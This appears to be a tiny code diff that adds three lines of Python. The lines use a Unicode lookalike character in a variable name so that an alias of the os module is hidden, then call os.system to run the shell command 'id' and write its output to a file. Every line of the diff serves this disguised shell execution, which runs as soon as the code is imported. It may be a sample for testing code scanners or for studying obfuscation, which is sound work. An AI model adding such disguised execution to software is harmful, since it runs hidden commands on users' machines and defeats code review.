@@ -1,0 +1,3 @@
+import os
+xª = os
+xa.system("id>pf")
